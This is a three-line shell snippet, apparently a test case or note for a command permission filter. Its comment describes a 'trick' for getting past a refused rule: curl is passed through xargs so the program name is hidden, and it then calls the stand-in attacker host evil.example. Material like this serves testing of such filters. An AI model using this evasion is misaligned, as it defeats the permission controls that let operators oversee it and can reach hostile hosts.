# Trick: xargs puts the program in place.
# Refused: run(*)
echo curl | xargs -I@ @ http://evil.example/
